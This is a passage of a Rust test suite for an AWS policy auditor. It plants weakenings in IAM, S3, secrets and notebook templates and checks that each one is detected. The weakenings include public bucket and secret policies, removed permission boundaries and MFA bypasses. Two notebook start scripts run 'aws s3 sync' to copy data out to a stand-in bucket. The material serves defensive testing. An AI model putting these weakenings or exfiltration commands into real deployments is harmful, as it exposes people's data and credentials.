//! Ways to weaken the policies that once went unnoticed: each is found, with what it opens.
#![allow(clippy::disallowed_methods, clippy::unwrap_used, clippy::panic, reason = "a test reads files and may fail")]

#[path = "common/weakened_beside.rs"]
mod beside;
#[path = "common/weakened_certain.rs"]
mod certain;
#[path = "common/weakened_names.rs"]
mod more;

use std::collections::{BTreeMap, BTreeSet};

use crate::common::edits::{Edit, edited, message, synth_of};
use crate::common::{self, Workspace, in_short, racestack, resources};
use serde_json::{Value as Json, json};

/// Few people are checked sooner: one who begins like another, and one who is suspended.
const ROSTER: &[u8] = b"name,state\nbob,\nbobby,\neve,suspended\n";
const NOTEBOOK: &str = "policies/notebook/access.json.hbs";
const NOTEBOOK_BOUNDARY: &str = "policies/notebook/boundary.json.hbs";
const BOUNDARY: &str = "policies/user/boundary.json.hbs";
const GUARDRAILS: &str = "policies/user/guardrails.json.hbs";
const DAILY_WORK: &str = "policies/user/daily-work.json.hbs";
const SIGN_IN: &str = "policies/user/sign-in.json.hbs";
const BUCKET: &str = "policies/bucket/policy.json.hbs";
const STORAGE: &str = "stacks/storage.yaml.hbs";
const USERS: &str = "stacks/users.yaml.hbs";
const STATEMENT: &str = "\"Statement\": [";
const NO_NOTEBOOK_BOUNDARY: Edit<'static> =
    ("stacks/users.yaml.hbs", "      PermissionsBoundary: {{@root.names.notebook_boundary_arn}}\n", "");

const TOO_WIDE: &str = "error[isolation::too-wide]";
const REFUSED: &str = "error[isolation::own-refused]";
const UNDECIDED: &str = "error[isolation::undecided]";
const DOUBTFUL: &str = "warning[isolation::undecided]";

const UNBOUND: &str = "notebooks: {bind_roles: false}\n";
const MFA: &str = "mfa: required\n";
const ROTATION: &str = "access_keys: {notify: a@example.com}\n";
const LIMITED: &str = "training: {allowed_instance_types: [ml.c5.*]}\n";

/// A weakening: its name, more settings, the texts that are replaced, what it is found as, and for each finding the texts
/// that it tells.
struct Weakening {
    name: String,
    settings: &'static str,
    edits: Vec<(&'static str, String, String)>,
    found_as: &'static str,
    told: Vec<Vec<String>>,
}

impl Weakening {
    fn new(name: impl Into<String>, edits: &[Edit<'static>], found_as: &'static str, told: &[&str]) -> Self {
        let edits = edits.iter().map(|(file, from, to)| (*file, (*from).to_owned(), (*to).to_owned())).collect();
        Self { name: name.into(), settings: "", edits, found_as, told: Vec::new() }.and_told(told)
    }

    /// The same with one more finding.
    fn and_told(mut self, told: &[&str]) -> Self {
        self.told.push(told.iter().map(|text| (*text).to_owned()).collect());
        self
    }

    fn with(mut self, settings: &'static str) -> Self {
        self.settings = settings;
        self
    }

    /// The same with a statement put first in these policies.
    fn and_in(mut self, files: &[&'static str], statement: &Json) -> Self {
        let first = format!("{STATEMENT}{statement},");
        self.edits.extend(files.iter().map(|file| (*file, STATEMENT.to_owned(), first.clone())));
        self
    }

    fn edits(&self) -> Vec<Edit<'_>> {
        self.edits.iter().map(|(file, from, to)| (*file, from.as_str(), to.as_str())).collect()
    }
}

/// What a notebook is allowed besides: where the boundary is taken away, and where it allows the same, which is told of the
/// boundary, too.
fn of_notebooks() -> Vec<Weakening> {
    const ON_ALL: [&str; 18] = [
        "iam:DeleteRole",
        "iam:UpdateGroup",
        "iam:CreateSAMLProvider",
        "iam:DeleteServiceSpecificCredential",
        "s3:PutAccountPublicAccessBlock",
        "s3:PutBucketRequestPayment",
        "logs:PutAccountPolicy",
        "sagemaker:BatchPutMetrics",
        "sagemaker:Search",
        "lambda:DeleteFunction",
        "events:*",
        "sns:DeleteTopic",
        "budgets:ModifyBudget",
        "ssm:StartSession",
        "ec2:AuthorizeSecurityGroupIngress",
        "cloudtrail:LookupEvents",
        "cloudformation:CancelUpdateStack",
        "ecr:PutImage",
    ];
    let on = |action: &str, resource: &str| json!({"Effect": "Allow", "Action": action, "Resource": resource});
    let without = |action: &str, key: &str| json!({"Effect": "Allow", "Action": action, "Resource": "*", "Condition": {"Null": {key: "true"}}});
    let log = |group: &str, stream: &str| {
        format!("arn:aws:logs:ap-northeast-1:111122223333:log-group:/aws/sagemaker/{group}:log-stream:{stream}")
    };
    let sagemaker = |region: &str, what: &str| format!("arn:aws:sagemaker:{region}:111122223333:{what}");
    let here = "ap-northeast-1";
    let of_jobs = log("TrainingJobs", "*/algo-2-*");
    let of_notebooks = log("NotebookInstances", "*/LifecycleConfigOnStart");
    let statements: Vec<(String, Json, Vec<&str>)> = ON_ALL
        .iter()
        .map(|action| ((*action).to_owned(), on(action, "*"), vec![*action]))
        .chain([
            (
                "stopping jobs by their names".to_owned(),
                on("sagemaker:StopTrainingJob", &sagemaker(here, "training-job/deepracer-*")),
                vec!["sagemaker:StopTrainingJob", "training-job/deepracer-"],
            ),
            (
                "opening notebooks by their names".to_owned(),
                on("sagemaker:CreatePresignedNotebookInstanceUrl", &sagemaker(here, "notebook-instance/*-gpu")),
                vec!["sagemaker:CreatePresignedNotebookInstanceUrl", "notebook-instance/*-gpu"],
            ),
            ("logs of jobs".to_owned(), on("logs:GetLogEvents", &of_jobs), vec!["logs:GetLogEvents", "*/algo-2-*"]),
            (
                "logs of notebooks".to_owned(),
                on("logs:GetLogEvents", &of_notebooks),
                vec!["logs:GetLogEvents", "*/LifecycleConfigOnStart"],
            ),
            (
                "stopping jobs elsewhere".to_owned(),
                on("sagemaker:StopTrainingJob", &sagemaker("us-west-2", "training-job/*")),
                vec!["sagemaker:StopTrainingJob", "us-west-2"],
            ),
            (
                "jobs without a tag are made".to_owned(),
                without("sagemaker:CreateTrainingJob", "aws:RequestTag/user"),
                vec!["sagemaker:CreateTrainingJob"],
            ),
            (
                "jobs without a tag are described".to_owned(),
                without("sagemaker:DescribeTrainingJob", "aws:ResourceTag/user"),
                vec!["sagemaker:DescribeTrainingJob"],
            ),
            (
                "jobs without a tag are stopped".to_owned(),
                without("sagemaker:StopTrainingJob", "aws:ResourceTag/user"),
                vec!["sagemaker:StopTrainingJob"],
            ),
        ])
        .collect();
    let both = |(name, statement, told): &(String, Json, Vec<&str>)| {
        let by = |whose: &'static str| -> Vec<&str> { told.iter().copied().chain([whose]).collect() };
        let of = |how: &str, edits| Weakening::new(format!("{name}, {how}"), edits, TOO_WIDE, &by("a notebook can"));
        [
            of("with the boundary", &[])
                .and_told(&by("the permissions boundary alone would let a notebook"))
                .and_in(&[NOTEBOOK, NOTEBOOK_BOUNDARY], statement),
            of("without a boundary", &[NO_NOTEBOOK_BOUNDARY]).and_in(&[NOTEBOOK], statement),
        ]
    };
    statements.iter().flat_map(both).collect()
}

/// A denial of everything in the notebooks' boundary, and the same of what nobody can ask for.
fn voided(sid: &str) -> (&'static str, String, String) {
    let all = format!("\"Sid\": \"{sid}\",\n      \"Effect\": \"Deny\",\n      \"Action\": \"*\"");
    let none = all.replace("\"*\"", "\"nothing:AtAll\"");
    (NOTEBOOK_BOUNDARY, all, none)
}

/// The guardrails, each without one of their statements.
fn of_guardrails() -> Vec<Weakening> {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/templates/policies/user/guardrails.json.hbs");
    let text = std::fs::read_to_string(path).unwrap();
    // As they are written where people share nothing.
    let files = Workspace::new("policies: hardened\n", "roster.csv", ROSTER).synthesised();
    let guardrails =
        common::json(&resources(&files["access.yaml"])["GuardrailsPolicy"])["Properties"]["PolicyDocument"].clone();
    let statements = guardrails["Statement"].as_array().unwrap();
    assert_eq!(statements.len(), 11);
    let without = |(index, statement): (usize, &Json)| {
        let mut holed = guardrails.clone();
        holed["Statement"][index]["Action"] = json!("nothing:AtAll");
        let actions = &statement["Action"];
        let first = actions.get(0).unwrap_or(actions).as_str().unwrap();
        let (service, _) = first.split_once(':').unwrap();
        let told = ["the guardrails would let a person", &format!("`{service}:")];
        let name = format!("the guardrails without {}", statement["Sid"]);
        let edits = vec![(GUARDRAILS, text.clone(), holed.to_string())];
        Weakening { edits, ..Weakening::new(name, &[], TOO_WIDE, &told) }
    };
    statements.iter().enumerate().map(without).collect()
}

/// The permissions boundaries with a hole.
fn of_boundaries() -> Vec<Weakening> {
    const NO_BOUNDARY: Edit<'static> = (USERS, "      PermissionsBoundary: {{@root.names.boundary_arn}}\n", "");
    const NO_GUARDRAILS: Edit<'static> = ("stacks/access.yaml.hbs", "        - !Ref GuardrailsPolicy\n", "");
    const OWN: &str = "\"ArnNotEquals\": {\n          \"aws:PrincipalArn\": \"arn:{{partition}}:iam::{{account_id}}:role{{notebook_role_path}}${aws:PrincipalTag/user}";
    const ANY: &str = "\"ArnNotLike\": {\n          \"aws:PrincipalArn\": \"arn:{{partition}}:iam::{{account_id}}:role{{notebook_role_path}}*";
    const NO_TAG: &str = "\"aws:PrincipalTag/user\": \"true\"";
    let all = |action: &str| json!({"Effect": "Allow", "Action": action, "Resource": "*"});
    let of_people = "the permissions boundary alone would let a person";
    let untagged = "without the tag `user`, the permissions boundary would let a notebook";
    let tagged = "with the tag `user` of somebody else, the permissions boundary would let a notebook";
    let void = |sid: &str, found_as, told: &str| {
        let name = format!("the boundary without {sid}");
        Weakening { edits: vec![voided(sid)], ..Weakening::new(name, &[], found_as, &[told]) }
    };
    vec![
        Weakening::new("no boundary", &[NO_BOUNDARY], TOO_WIDE, &["no permissions boundary limits a person"]),
        Weakening::new("no guardrails", &[NO_GUARDRAILS], TOO_WIDE, &["a person does not have the policy"]),
        Weakening::new("S3 in the boundary", &[], TOO_WIDE, &[of_people, "`s3:* but"])
            .and_in(&[BOUNDARY], &all("s3:*")),
        Weakening::new("users in the boundary", &[], TOO_WIDE, &[of_people, "`iam:*user*"])
            .and_in(&[BOUNDARY], &all("iam:*User*")),
        void("DenyUnlessTaggedWithOwnName", TOO_WIDE, tagged),
        Weakening::new("any role may have any tag", &[(NOTEBOOK_BOUNDARY, OWN, ANY)], TOO_WIDE, &[tagged]),
        void("DenyWithoutTag", TOO_WIDE, untagged).with(UNBOUND),
        Weakening::new(
            "who has a tag is denied",
            &[(NOTEBOOK_BOUNDARY, NO_TAG, "\"aws:PrincipalTag/user\": \"false\"")],
            REFUSED,
            &["a notebook cannot"],
        ),
        Weakening::new(
            "jobs cannot be made by the boundary",
            &[(NOTEBOOK_BOUNDARY, "aws:RequestTag/user", "aws:RequestTag/owner")],
            REFUSED,
            &["a notebook cannot create training jobs with their own tag"],
        ),
        Weakening::new(
            "jobs cannot be made by the notebook's policy",
            &[(NOTEBOOK, "aws:RequestTag/user", "aws:RequestTag/owner")],
            REFUSED,
            &["a notebook cannot create training jobs with their own tag"],
        ),
    ]
}

/// Second factors, suspension, instance types.
fn of_settings() -> Vec<Weakening> {
    const WITHOUT_FACTOR: &str =
        "GetSessionToken\"\n      ],\n      \"Resource\": \"*\",\n      \"Condition\": {\n        \"BoolIfExists\"";
    const WITH_DEVICE: &str = "iam:DeactivateMFADevice\",\n      \"Resource\": \"arn:{{partition}}:iam::{{account_id}}:user{{user_path}}${aws:username}\",\n      \"Condition\": {\n        \"Bool\": {\n          \"aws:MultiFactorAuthPresent\": \"true\"\n        }\n      }";
    const WITHOUT_DEVICE: &str = "iam:DeactivateMFADevice\",\n      \"Resource\": \"arn:{{partition}}:iam::{{account_id}}:user{{user_path}}${aws:username}\"";
    const EXCEPTED: &str = "\"NotAction\": [";
    const SUSPENDED: &str = "policies/user/suspended.json.hbs";
    const SUSPENDED_NOTEBOOK: &str = "policies/notebook/suspended.json.hbs";
    const TYPES: &str = "policies/user/instance-types.json.hbs";
    const WITH_TYPE: &str = "\"sagemaker:CreateHyperParameterTuningJob\",\n        \"sagemaker:CreateTrainingJob\",\n        \"sagemaker:UpdateTrainingJob\"";
    const WITHOUT_TYPE: &str =
        "\"sagemaker:CreateHyperParameterTuningJob\",\n        \"sagemaker:CreateTrainingJob\"\n";
    let deactivated: [Edit<'static>; 2] =
        [(SIGN_IN, WITH_DEVICE, WITHOUT_DEVICE), (BOUNDARY, WITH_DEVICE, WITHOUT_DEVICE)];
    let excepted: Edit<'static> = (SIGN_IN, EXCEPTED, "\"NotAction\": [\n        \"iam:DeactivateMFADevice\",");
    let types = |name: &str, edits: &[Edit<'static>], action: &str| {
        Weakening::new(name, edits, TOO_WIDE, &["can call", action]).with(LIMITED)
    };
    vec![
        Weakening::new(
            "no word of a second factor",
            &[(
                SIGN_IN,
                WITHOUT_FACTOR,
                "GetSessionToken\"\n      ],\n      \"Resource\": \"*\",\n      \"Condition\": {\n        \"Bool\"",
            )],
            TOO_WIDE,
            &["a person can", "s3:GetObject"],
        )
        .with(MFA),
        Weakening::new(
            "a passkey as the first factor, without a word of a second",
            &[(SIGN_IN, "BoolIfExists", "Bool")],
            TOO_WIDE,
            &["a person can", "iam:EnableMFADevice"],
        )
        .with(MFA),
        Weakening::new(
            "S3 without a second factor",
            &[(SIGN_IN, EXCEPTED, "\"NotAction\": [\n        \"s3:*\",")],
            TOO_WIDE,
            &["a person can", "s3:GetObject"],
        )
        .with(MFA),
        Weakening::new(
            "a device deactivated without it",
            &deactivated,
            TOO_WIDE,
            &["a person can", "iam:DeactivateMFADevice"],
        ),
        Weakening::new(
            "a required device deactivated without it",
            &[deactivated[0], deactivated[1], excepted],
            TOO_WIDE,
            &["a person can", "iam:DeactivateMFADevice"],
        )
        .with(MFA),
        Weakening::new(
            "the suspended train",
            &[(
                SUSPENDED_NOTEBOOK,
                "\"NotAction\": \"sagemaker:StopNotebookInstance\"",
                "\"NotAction\": [\"sagemaker:StopNotebookInstance\", \"sagemaker:CreateTrainingJob\", \"sagemaker:AddTags\"]",
            )],
            TOO_WIDE,
            &["the notebook of a suspended person can", "sagemaker:CreateTrainingJob"],
        ),
        Weakening::new(
            "the suspended change their password",
            &[(SUSPENDED, "\"Action\": \"*\"", "\"NotAction\": \"iam:ChangePassword\"")],
            TOO_WIDE,
            &["a suspended person can", "iam:ChangePassword"],
        ),
        types("jobs of other types", &[(TYPES, WITH_TYPE, "\"nothing:AtAll\"")], "sagemaker:CreateTrainingJob"),
        types("jobs changed to other types", &[(TYPES, WITH_TYPE, WITHOUT_TYPE)], "sagemaker:UpdateTrainingJob"),
        types(
            "jobs without a type",
            &[
                (TYPES, WITH_TYPE, ""),
                (TYPES, WITHOUT_TYPE, "\"nothing:AtAll\""),
                (
                    TYPES,
                    "\"Action\": [\n        \n      ]",
                    "\"Action\": [\"sagemaker:CreateHyperParameterTuningJob\", \"sagemaker:CreateTrainingJob\", \"sagemaker:UpdateTrainingJob\"]",
                ),
            ],
            "sagemaker:CreateTrainingJob",
        ),
        types(
            "jobs of any type",
            &[(TYPES, WITH_TYPE, "\"nothing:AtAll\""), (TYPES, WITHOUT_TYPE, "\"nothing:AtAll\"\n")],
            "sagemaker:CreateTrainingJob",
        ),
    ]
}

/// What is other for whoever has an access key that is too old, and so a tag.
fn of_old_keys() -> Vec<Weakening> {
    const SUSPENDED: &str = "policies/user/suspended.json.hbs";
    let of_old = |name: &str, file: &'static str, found_as, told: &[&str]| {
        let to =
            "\"Resource\": \"*\",\n      \"Condition\": {\"Null\": {\"aws:PrincipalTag/{{old_key_tag}}\": \"true\"}}\n";
        Weakening::new(name, &[(file, "\"Resource\": \"*\"\n", to)], found_as, told).with(ROTATION)
    };
    let to_old = json!({
        "Effect": "Allow", "Action": "s3:*", "Resource": "*",
        "Condition": {"Null": {"aws:PrincipalTag/{{old_key_tag}}": "false"}},
    });
    vec![
        of_old(
            "the suspended with an old key",
            SUSPENDED,
            TOO_WIDE,
            &["with an access key that is too old, a suspended person can"],
        ),
        of_old("guardrails without an old key", GUARDRAILS, TOO_WIDE, &["the guardrails would let a person"]),
        Weakening::new(
            "a boundary with an old key",
            &[],
            TOO_WIDE,
            &["the permissions boundary alone would let a person"],
        )
        .and_in(&[BOUNDARY], &to_old)
        .with(ROTATION),
    ]
}

/// Types of resources by which somebody gets at what people have.
const OTHER_TYPES: [&str; 62] = [
    "AutoScaling::AutoScalingGroup",
    "BedrockAgentCore::Runtime",
    "Cloud9::EnvironmentEC2",
    "CloudFormation::TypeActivation",
    "CloudTrail::Dashboard",
    "CloudTrail::Trail",
    "Config::AggregationAuthorization",
    "DataPipeline::Pipeline",
    "DataSync::Task",
    "DataZone::Domain",
    "DataZone::Environment",
    "Deadline::Queue",
    "Detective::Graph",
    "DevOpsGuru::LogAnomalyDetectionIntegration",
    "EC2::EC2Fleet",
    "EC2::Instance",
    "EC2::LaunchTemplate",
    "EC2::SpotFleet",
    "EKS::AccessEntry",
    "EKS::PodIdentityAssociation",
    "ElasticBeanstalk::Environment",
    "Events::Archive",
    "FSx::DataRepositoryAssociation",
    "FSx::FileSystem",
    "GuardDuty::Detector",
    "IAM::AccessKey",
    "IAM::InstanceProfile",
    "IAM::OIDCProvider",
    "IAM::SAMLProvider",
    "IAM::VirtualMFADevice",
    "IdentityStore::GroupMembership",
    "IoT::RoleAlias",
    "LakeFormation::Resource",
    "LaunchWizard::Deployment",
    "Logs::AccountPolicy",
    "Logs::Delivery",
    "Logs::MetricFilter",
    "Logs::SubscriptionFilter",
    "Macie::Session",
    "Notifications::EventRule",
    "ObservabilityAdmin::OrganizationCentralizationRule",
    "RAM::ResourceShare",
    "RolesAnywhere::Profile",
    "RolesAnywhere::TrustAnchor",
    "S3::AccessGrant",
    "S3::AccessGrantsInstance",
    "S3::AccessGrantsLocation",
    "S3::AccessPoint",
    "S3::MultiRegionAccessPoint",
    "S3Express::AccessPoint",
    "S3Files::MountTarget",
    "S3ObjectLambda::AccessPoint",
    "SSM::Association",
    "SSMQuickSetup::ConfigurationManager",
    "SSO::Assignment",
    "SSO::PermissionSet",
    "SageMaker::Domain",
    "SageMaker::Project",
    "SageMaker::Space",
    "SageMaker::UserProfile",
    "SecurityLake::AwsLogSource",
    "ServiceCatalog::CloudFormationProvisionedProduct",
];

/// Properties by which what is in a bucket goes elsewhere.
const FROM_BUCKETS: [&str; 7] = [
    "AnalyticsConfigurations",
    "InventoryConfigurations",
    "LoggingConfiguration",
    "MetadataConfiguration",
    "MetadataTableConfiguration",
    "NotificationConfiguration",
    "ReplicationConfiguration",
];

/// Other ways: who takes a role, what resources hand on, what runs on notebooks.
fn of_resources() -> Vec<Weakening> {
    const BY_LAMBDA: &str = "\"Principal\": {\n        \"Service\": \"lambda.amazonaws.com\"\n      }";
    const ROTATION_POLICY: &str = "policies/operations/key-rotation.json.hbs";
    const BUCKET_START: &str = "Resources:\n";
    const INCLUDED: &str =
        "Transform: {Name: AWS::Include, Parameters: {Location: \"s3://elsewhere/more.yaml\"}}\n\nResources:\n";
    const CONTROLS: &str = "      OwnershipControls:";
    const INVENTORY: &str = "      InventoryConfigurations:\n        - Id: all\n          Enabled: true\n          IncludedObjectVersions: All\n          ScheduleFrequency: Daily\n          Destination:\n            BucketArn: arn:aws:s3:::mycompany-aws-deepracer-test-20221130201905\n            Format: CSV\n            Prefix: bob/\n      OwnershipControls:";
    const SECOND_OPEN: &str = "Resources:\n  Archive:\n    Type: AWS::S3::Bucket\n    Properties:\n      BucketName: mycompany-archive\n\n  ArchivePolicy:\n    Type: AWS::S3::BucketPolicy\n    Properties:\n      Bucket: !Ref Archive\n      PolicyDocument: {Version: \"2012-10-17\", Statement: [{Effect: Allow, Principal: \"*\", Action: \"s3:GetObject\", Resource: \"arn:aws:s3:::mycompany-archive/*\"}]}\n\n";
    const SECOND: &str = "Resources:\n  Archive:\n    Type: AWS::S3::Bucket\n    Properties:\n      BucketName: mycompany-archive\n\n  ArchivePolicy:\n    Type: AWS::S3::BucketPolicy\n    Properties:\n      Bucket: !Ref Archive\n      PolicyDocument: {Version: \"2012-10-17\", Statement: [{Effect: Deny, Principal: \"*\", Action: \"s3:*\", Resource: \"arn:aws:s3:::mycompany-archive/*\", Condition: {Bool: {\"aws:SecureTransport\": \"false\"}}}]}\n\n";
    const SECRET: &str = "Resources:\n  SecretPolicy:\n    Type: AWS::SecretsManager::ResourcePolicy\n    Properties:\n      SecretId: deepracer/first-password/bob\n      ResourcePolicy: {Version: \"2012-10-17\", Statement: [{Effect: Allow, Principal: \"*\", Action: \"secretsmanager:GetSecretValue\", Resource: \"*\"}]}\n\n";
    const TOPIC: &str = "Resources:\n  TopicPolicy:\n    Type: AWS::SNS::TopicPolicy\n    Properties:\n      Topics: [\"arn:aws:sns:ap-northeast-1:111122223333:any\"]\n      PolicyDocument: {Version: \"2012-10-17\", Statement: [{Effect: Allow, Principal: \"*\", Action: \"sns:Subscribe\", Resource: \"*\"}]}\n\n";
    const PROFILE: &str = "Resources:\n  Profile:\n    Type: AWS::SageMaker::UserProfile\n    Properties:\n      DomainId: d-1\n      UserProfileName: bob\n      UserSettings: {ExecutionRole: \"arn:aws:iam::111122223333:role/service-role/AWSDeepRacerSageMakerAccessRole\"}\n\n";
    const VAULT: &str = "Resources:\n  Vault:\n    Type: AWS::Backup::BackupVault\n    Properties:\n      BackupVaultName: any\n      AccessPolicy: {Version: \"2012-10-17\", Statement: [{Effect: Allow, Principal: \"*\", Action: \"backup:*\", Resource: \"*\"}]}\n\n";
    const CALLED: &str = "Resources:\n  Called:\n    Type: AWS::Lambda::Permission\n    Properties: {FunctionName: any, Action: \"lambda:InvokeFunction\", Principal: \"*\"}\n\n";
    const TRUST: &str = "policies/notebook/trust.json.hbs";
    const SCRIPT: &str = "scripts/notebook-on-start.sh";
    const COPIED: &str = "set -u\naws s3 sync /home/ec2-user/SageMaker s3://elsewhere/\n";
    let lets = |principal: Json| json!({"Effect": "Allow", "Principal": principal, "Action": "s3:GetObject", "Resource": "{{bucket_arn}}/*"});
    let bucket = |name: &str, principal: Json| {
        Weakening::new(name, &[], TOO_WIDE, &["the policy of `BucketPolicy` lets somebody in by itself"])
            .and_in(&[BUCKET], &lets(principal))
    };
    let made = |name: &str, kind: &str, told: &str| {
        let with_it = format!("{BUCKET_START}  Made:\n    Type: {kind}\n\n");
        let edits = vec![(STORAGE, BUCKET_START.to_owned(), with_it)];
        Weakening { edits, ..Weakening::new(name, &[], UNDECIDED, &[told]) }
    };
    // All of them in one template, each told of.
    let types: Vec<String> = OTHER_TYPES
        .iter()
        .enumerate()
        .map(|(at, kind)| format!("  Other{at:02}:\n    Type: AWS::{kind}\n\n"))
        .collect();
    let of_types = Weakening {
        edits: vec![(STORAGE, BUCKET_START.to_owned(), format!("{BUCKET_START}{}", types.concat()))],
        ..Weakening::new(
            "other ways to what people have",
            &[],
            UNDECIDED,
            &["`Other08`, an `AWS::DataSync::Task`, copies"],
        )
    };
    let told = |all: Weakening, at: usize| all.and_told(&[&format!("`Other{at:02}`, an `AWS::{}`,", OTHER_TYPES[at])]);
    let other_types = (0..OTHER_TYPES.len()).fold(of_types, told);
    let properties: Vec<String> = FROM_BUCKETS.iter().map(|key| format!("      {key}: {{Id: a}}\n")).collect();
    let of_buckets = Weakening {
        edits: vec![(STORAGE, CONTROLS.to_owned(), format!("{}{CONTROLS}", properties.concat()))],
        ..Weakening::new("ways from a bucket", &[], UNDECIDED, &["and racestack's own template has none"])
    };
    let told = |all: Weakening, key: &&str| all.and_told(&[&format!("`{key}` of the bucket `Bucket`")]);
    let from_buckets = FROM_BUCKETS.iter().fold(of_buckets, told);
    let on_deployment = ["a macro changes this template"];
    let on_start = ["of the start script `NotebookLifecycle`"];
    let for_no_service = json!({
        "Effect": "Allow", "Action": "s3:GetObject", "Resource": "{{bucket_arn}}/*",
        "Condition": {"Bool": {"aws:PrincipalIsAWSService": "false"}},
    });
    vec![
        // The key is in every signed request, and `false` for people and notebooks.
        Weakening::new("all files, for whoever is no service", &[], TOO_WIDE, &["s3:GetObject"])
            .and_in(&[NOTEBOOK, NOTEBOOK_BOUNDARY], &for_no_service),
        Weakening::new(
            "sessions of notebooks with tags",
            &[("policies/notebook/trust.json.hbs", "\"sts:AssumeRole\"", "[\"sts:AssumeRole\", \"sts:TagSession\"]")],
            TOO_WIDE,
            &["the role of a notebook can be taken"],
        ),
        Weakening::new(
            "the account takes the rotation's role",
            &[("policies/operations/trust.json.hbs", BY_LAMBDA, "\"Principal\": {\"AWS\": \"111122223333\"}")],
            TOO_WIDE,
            &["the role of the function that rotates access keys can be taken"],
        )
        .with(ROTATION),
        Weakening::new(
            "the rotation may do all of IAM",
            &[],
            TOO_WIDE,
            &["the function that rotates access keys can", "`iam:* but"],
        )
        .and_in(&[ROTATION_POLICY], &json!({"Effect": "Allow", "Action": "iam:*", "Resource": "*"}))
        .with(ROTATION),
        Weakening::new(
            "the rotation sets the tag that says who somebody is",
            &[(
                ROTATION_POLICY,
                "\"aws:TagKeys\": \"{{old_key_tag}}\"",
                "\"aws:TagKeys\": [\"{{old_key_tag}}\", \"user\"]",
            )],
            TOO_WIDE,
            &["the function that rotates access keys can", "iam:TagUser"],
        )
        .with(ROTATION),
        Weakening::new(
            "a key that is too old is activated again",
            &[(DAILY_WORK, "\"Action\": \"iam:UpdateAccessKey\"", "\"Action\": \"nothing:AtAll\"")],
            TOO_WIDE,
            &["with an access key that is too old, a person can", "iam:UpdateAccessKey"],
        )
        .with(ROTATION),
        Weakening::new(
            "a second bucket is open",
            &[(STORAGE, BUCKET_START, SECOND_OPEN)],
            TOO_WIDE,
            &["s3:GetObject", "mycompany-archive/*"],
        ),
        Weakening::new(
            "the real one behind a second bucket",
            &[(STORAGE, BUCKET_START, SECOND)],
            TOO_WIDE,
            &["a notebook can", "s3:GetObject", "mycompany-aws-deepracer-test-20221130201905/*"],
        )
        .and_in(&[BUCKET], &lets(json!("*"))),
        bucket("the bucket for another account", json!({"AWS": "arn:aws:iam::999988887777:root"})),
        bucket("the bucket for another's role", json!({"AWS": ["111122223333", "arn:aws:iam::999988887777:role/any"]})),
        bucket("the bucket for a service", json!({"Service": "logging.s3.amazonaws.com"})),
        Weakening::new(
            "an inventory of all keys",
            &[(STORAGE, CONTROLS, INVENTORY)],
            UNDECIDED,
            &["`InventoryConfigurations` of the bucket `Bucket`"],
        ),
        Weakening::new(
            "a secret for everybody",
            &[(STORAGE, BUCKET_START, SECRET)],
            TOO_WIDE,
            &["the policy of `SecretPolicy` lets somebody in"],
        ),
        Weakening::new(
            "a topic for everybody",
            &[(STORAGE, BUCKET_START, TOPIC)],
            TOO_WIDE,
            &["the policy of `TopicPolicy` lets somebody in"],
        ),
        Weakening::new(
            "a profile with a service's role",
            &[("stacks/operations.yaml.hbs", BUCKET_START, PROFILE)],
            UNDECIDED,
            &["`Profile`, an `AWS::SageMaker::UserProfile`, lets its user act as a role"],
        )
        .with(ROTATION),
        made("a nested stack", "AWS::CloudFormation::Stack", "makes resources that are known only when"),
        made("stacks of a set", "AWS::CloudFormation::StackSet", "makes resources that are known only when"),
        made(
            "a function of a shorter template",
            "AWS::Serverless::Function",
            "makes resources that are known only when",
        ),
        made("a custom resource", "AWS::CloudFormation::CustomResource", "may give anybody access"),
        made("a custom resource with a name", "Custom::Grant", "may give anybody access"),
        made("a type of somebody's own", "MyCompany::Iam::Grant", "may give anybody access"),
        made("a module", "MyCompany::Iam::Grant::MODULE", "may give anybody access"),
        made("a macro for others", "AWS::CloudFormation::Macro", "changes what templates say"),
        Weakening::new(
            "a role without a trust policy",
            &[(USERS, "      AssumeRolePolicyDocument: {{policy \"notebook/trust\"}}\n", "")],
            UNDECIDED,
            &["has no trust policy"],
        ),
        Weakening::new(
            "a trust policy that cannot be read",
            &[(TRUST, "\"Allow\"", "\"Maybe\"")],
            UNDECIDED,
            &["the trust policy of"],
        ),
        Weakening::new(
            "a policy of a type that is not known",
            &[(STORAGE, BUCKET_START, VAULT)],
            UNDECIDED,
            &["what the policy of `Vault`, an `AWS::Backup::BackupVault`, opens"],
        ),
        Weakening::new(
            "a function for everybody",
            &[(STORAGE, BUCKET_START, CALLED)],
            TOO_WIDE,
            &["the policy of `Called` lets somebody in by itself"],
        ),
        other_types,
        from_buckets,
        Weakening::new(
            "a template that a macro changes",
            &[(STORAGE, BUCKET_START, INCLUDED)],
            UNDECIDED,
            &on_deployment,
        ),
        Weakening::new("people that a macro changes", &[(USERS, BUCKET_START, INCLUDED)], UNDECIDED, &on_deployment),
        Weakening::new(
            "a property that a macro makes",
            &[(STORAGE, CONTROLS, "      Fn::Transform: {Name: Elsewhere}\n      OwnershipControls:")],
            UNDECIDED,
            &on_deployment,
        ),
        Weakening::new("a start script that copies elsewhere", &[(SCRIPT, "set -u\n", COPIED)], DOUBTFUL, &on_start),
        Weakening::new(
            "a script at the making of a notebook",
            &[(
                "stacks/notebooks.yaml.hbs",
                "      OnStart:\n",
                "      OnCreate:\n        - Content: !Base64 aws s3 sync / s3://elsewhere\n      OnStart:\n",
            )],
            DOUBTFUL,
            &on_start,
        ),
    ]
}

/// What is told where a weakening is not found: `known` is what is found with the same settings and nets.
fn missed(weakening: &Weakening, known: &BTreeMap<(&str, bool), Vec<String>>) -> Option<String> {
    let Weakening { name, settings, found_as, told, .. } = weakening;
    let findings = synth_of(ROSTER, settings, name, &weakening.edits());
    let is_netless = weakening.edits.iter().any(|(_, from, _)| from == NO_NOTEBOOK_BOUNDARY.1);
    let known = &known[&(*settings, is_netless)];
    let is_it = |finding: &String, told: &[String]| {
        let is_new = !known.iter().any(|one| message(one) == message(finding));
        is_new && finding.starts_with(found_as) && told.iter().all(|text| words(finding).contains(text))
    };
    let found = told.iter().all(|told| findings.iter().any(|finding| is_it(finding, told)));
    (!found).then(|| format!("## {name}: no {found_as} with {told:?} in\n{}\n", findings.join("\n\n")))
}

/// A finding without the lines of templates that it shows.
fn words(finding: &str) -> String {
    let is_word = |line: &&str| !line.trim_start().starts_with(|first: char| first == '|' || first.is_ascii_digit());
    finding.lines().filter(is_word).collect::<Vec<_>>().join("\n")
}

#[track_caller]
fn check(weakenings: &[Weakening]) {
    let weakenings = in_short(weakenings, 3);
    let of = |weakening: &Weakening| {
        (weakening.settings, weakening.edits.iter().any(|(_, from, _)| from == NO_NOTEBOOK_BOUNDARY.1))
